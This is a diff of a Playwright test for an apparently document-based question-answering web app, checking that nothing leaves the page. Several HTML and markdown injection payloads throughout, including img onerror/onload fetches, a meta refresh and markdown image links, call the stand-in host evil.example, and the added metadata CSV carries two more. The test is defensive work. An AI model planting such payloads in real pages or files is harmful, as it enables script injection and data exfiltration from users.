@@ -35,6 +35,7 @@ ATTACKS = (
     '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
     "${fetch('http://evil.example/template')}",
     '"><img src=http://evil.example/attribute>',
+    '<img src="data:image/svg+xml,<svg xmlns=http://evil.example onload=fetch(1)>">',
 )
 QUESTION = "Que traverse la rivière Zonzon ?"
 FACT = "La rivière Zonzon traverse le village de Brax"
@@ -69,6 +70,8 @@ def test_nothing_leaves_the_page(browser: Browser, tmp_path: Path) -> None:
             + "\n\n[ref]: http://evil.example/definition\n",
             '<img src=x onerror=fetch("evil.example")>.txt': "Le maire de Brax parle. Il est tard.",
             "![x](evil.example).md": "Le pont de Brax est fermé depuis le mois de mars.",
+            "metadata.csv": 'file,title,source\nzonzon.txt,"<img src=http://evil.example/title>",'
+            '"![s](http://evil.example/source)"\n',
         }
     )
     project.update()
@@ -86,7 +89,9 @@ def test_nothing_leaves_the_page(browser: Browser, tmp_path: Path) -> None:
         for tab in ("Conversations", "Documents", "Sources"):
             page.get_by_role("tab", name=tab).click()
             page.wait_for_timeout(200)
-        assert "evil.example" in page.locator("#talk").inner_text()
+        told = page.locator('#talk .exchange:is([data-state="answered"], [data-state="partial"]) .words')
+        assert any("evil.example" in words for words in told.all_inner_texts()), "an attack was answered with"
+        assert "evil.example/title" in page.locator("#sources").inner_text()
         assert page.locator("#columns :is(img, iframe, script, link, a[href], object, embed)").count() == 0
         assert visitor.strangers() == []
         # Not even tried: the policy refused nothing.
